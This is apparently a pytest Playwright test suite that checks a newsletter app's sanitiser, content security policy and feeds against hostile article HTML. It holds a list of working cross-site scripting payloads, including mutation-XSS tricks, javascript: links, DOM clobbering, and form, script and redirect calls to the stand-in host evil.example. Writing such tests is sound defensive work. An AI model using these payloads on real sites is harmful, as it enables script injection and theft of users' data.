"""A hostile article in the archive and in the feeds is harmless: in Chromium, and within a second.

First as it comes in and is cleaned; then as if somebody had got past all that and written into the
database; then as if nothing had been cleaned at all, and only the pages' policy were left.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

import pytest
from feedrules import atom_faults, html_faults
from flask.testing import FlaskClient

from newsletter import store
from newsletter.digests import markdown, markup

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = [pytest.mark.browser, pytest.mark.parametrize("database_kind", ["sqlite"])]

HIT = "window.owned=1"
EVIL = "https://evil.example"
SHOTS = (
    f"<script>{HIT}</script>",
    f"<script src={EVIL}/x.js></script>",
    f"<img src=x onerror={HIT}>",
    f"<img src='{EVIL}/p.gif' width=1 height=1>",
    f"<svg onload={HIT}><script>{HIT}</script></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>top.owned=1</script>'></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}></style></mglyph></table>",
    f"<math href='javascript:{HIT}'>click</math>",
    f"<a href='javascript:{HIT}'>a</a><a href=' java\tscript:{HIT}'>b</a>",
    f"<a href='data:text/html,<script>opener.{HIT}</script>'>c</a>",
    f"<a href='vbscript:{HIT}'>d</a><a href='//evil.example/x'>e</a>",
    f"<iframe src={EVIL}></iframe><iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    f"<object data={EVIL}></object><embed src={EVIL}><applet code=x></applet>",
    f"<form action={EVIL}><input name=email autofocus onfocus={HIT}><button>Go</button></form>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'><base href='{EVIL}/'>",
    f"<link rel=stylesheet href={EVIL}/x.css><style>@import '{EVIL}/y';*{{display:none}}</style>",
    f"<div style=\"position:fixed;inset:0;background:url('{EVIL}/z')\" onclick={HIT}>cover</div>",
    f"<details open ontoggle={HIT}><summary>x</summary></details>",
    f"<video autoplay><source src=x onerror={HIT}></video><audio src=x onerror={HIT}></audio>",
    "<p id=main class=skip name=getElementById>clobber</p><a id=email name=email>x</a>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'></noscript>",
    f"<table><td><a title='</td></table><script>{HIT}</script>'>x</a></td></table>",
    f"<template><script>{HIT}</script></template><plaintext><img src=x onerror={HIT}>",
)
PAYLOAD = "<p>Before.</p>" + "".join(f"<div>{shot}</div>" for shot in SHOTS) + "<p>After.</p>"
NESTED = "<div><blockquote><b>" * 3000 + "deep" + "</b></blockquote></div>" * 3000
# Where a digest has a line of text.
LINE = f'"><script>{HIT}</script><img src=x onerror={HIT}>'


@dataclass
class Watched:
    """A page in a browser, and what it tried. `asked`: addresses elsewhere."""

    page: Page
    asked: list[str] = field(default_factory=list)
    said: list[str] = field(default_factory=list)

    def hit(self) -> bool:
        """Whether any script of the article ran, in the page or in a frame of it."""
        return any(frame.evaluate("!!window.owned") for frame in self.page.frames)

    def refused(self) -> list[str]:
        """What the page's policy had to stop."""
        return [text for text in self.said if "Security Policy" in text]


@pytest.fixture
def watched(browser: Browser, site: str) -> Any:
    """A fresh tab that notes what is asked of other sites, and gets nothing from them."""
    context = browser.new_context()
    found = Watched(context.new_page())

    def elsewhere(route: Any) -> None:
        found.asked.append(route.request.url)
        route.abort()

    context.route(lambda url: not url.startswith(site), elsewhere)
    found.page.on("console", lambda message: found.said.append(message.text))
    found.page.on("dialog", lambda dialog: found.said.append(f"Security Policy: {dialog.message}"))
    yield found
    context.close()


def content(body: str) -> dict[str, Any]:
    """What a digest says, with `body` wherever HTML stands and LINE wherever text does."""
    piece = {
        "title": LINE, "author": LINE, "published": "2026-02-27", "image_credit": LINE,
        "image": "https://pictures.example/x.jpg", "image_alt": LINE, "tags": [LINE],
        "section": LINE, "url": "https://example.org/?q=" + LINE, "full": True, "body_html": body,
    }  # fmt: skip
    teaser = {**piece, "full": False, "summary_html": body, "title": "Teaser"}
    return {
        "subject": LINE, "preheader": LINE, "intro_html": body, "outro_html": body,
        "pieces": [piece, teaser],
    }  # fmt: skip


def is_harmless(watched: Watched, address: str) -> None:
    """Open the page, wait for what might come, and look at what is there."""
    watched.page.goto(address)
    watched.page.wait_for_load_state("networkidle")
    assert watched.page.url == address
    assert not watched.hit()
    assert len(watched.page.frames) == 1
    # A picture is asked for without a referrer, and that is all.
    assert {url for url in watched.asked if "evil" in url} <= {f"{EVIL}/p.gif"}
    schemes = watched.page.evaluate(
        "[...document.querySelectorAll('article a[href]')].map(each => each.protocol)"
    )
    assert set(schemes) <= {"http:", "https:", "mailto:"}
    forms = "document.querySelectorAll('article :is(form, input, button, iframe, style, svg)')"
    assert watched.page.evaluate(f"{forms}.length") == 0
    assert watched.page.evaluate("document.querySelectorAll('[id=main]').length") == 1
    assert watched.page.evaluate("getComputedStyle(document.querySelector('h1')).display") != "none"


@pytest.mark.parametrize("clean", [markup.clean, markdown.html], ids=["html", "markdown"])
def test_what_came_in_through_the_door(
    site: str, watched: Watched, publish: Callable[..., store.Digest], clean: Any
) -> None:
    """Cleaned when it is composed: nothing is left for the policy to refuse, and the words stay."""
    body = clean(PAYLOAD, base_url="https://example.org/a")
    digest = publish(**content(body))
    is_harmless(watched, f"{site}/field-notes/archive/{digest.public_id}")
    assert watched.refused() == []
    assert [url for url in watched.asked if "evil" in url] == []
    assert "Before." in watched.page.inner_text("article")


def test_what_was_written_into_the_database(
    site: str, watched: Watched, publish: Callable[..., store.Digest]
) -> None:
    """Cleaned once more when it is shown."""
    digest = publish(**content(PAYLOAD))
    is_harmless(watched, f"{site}/field-notes/archive/{digest.public_id}")
    assert watched.refused() == []


def test_the_policy_alone(site: str, watched: Watched, publish: Any) -> None:
    """With the raw article in the page, the browser refuses to run, load, frame or send it."""
    digest = publish()
    address = f"{site}/field-notes/archive/{digest.public_id}"
    watched.page.goto(address)
    watched.page.evaluate(
        "html => { document.querySelector('article').innerHTML = html;"
        "for (const old of document.querySelectorAll('article script')) {"
        "  const fresh = document.createElement('script'); fresh.text = old.text;"
        "  if (old.src) fresh.src = old.src; old.replaceWith(fresh); } }",
        PAYLOAD.replace("http-equiv=refresh", ""),
    )
    watched.page.wait_for_timeout(300)
    watched.page.evaluate("document.querySelector('article form')?.requestSubmit()")
    watched.page.wait_for_timeout(300)
    assert not watched.page.main_frame.evaluate("!!window.owned")
    assert watched.page.url == address
    # Pictures of articles come from everywhere; nothing else does.
    assert {url for url in watched.asked if "evil" in url} <= {f"{EVIL}/p.gif"}
    assert len(watched.refused()) > 5


@pytest.mark.parametrize("body", [PAYLOAD, NESTED], ids=["all at once", "nested"])
def test_feeds_and_pages_are_made_at_once(
    client: FlaskClient, publish: Callable[..., store.Digest], body: str
) -> None:
    """Within a second of computing, valid, and clean: a feed reader has no policy of ours."""
    digest = publish(**content(markup.clean(body, base_url=None)))
    begun = time.thread_time()
    page = client.get(f"/field-notes/archive/{digest.public_id}")
    atom = client.get("/field-notes/feed.xml")
    feed = client.get("/field-notes/feed.json")
    took = time.thread_time() - begun
    assert page.status_code == atom.status_code == feed.status_code == 200
    assert atom_faults(atom.data) == []
    assert [html_faults(item["content_html"]) for item in (feed.json or {})["items"]] == [[]]
    assert took < 1


def test_the_database_cannot_poison_the_feeds(
    client: FlaskClient, publish: Callable[..., store.Digest]
) -> None:
    """What is in a feed is shown on other people's pages."""
    publish(**content(PAYLOAD))
    assert atom_faults(client.get("/field-notes/feed.xml").data) == []
    (item,) = (client.get("/field-notes/feed.json").json or {})["items"]
    assert html_faults(item["content_html"]) == []
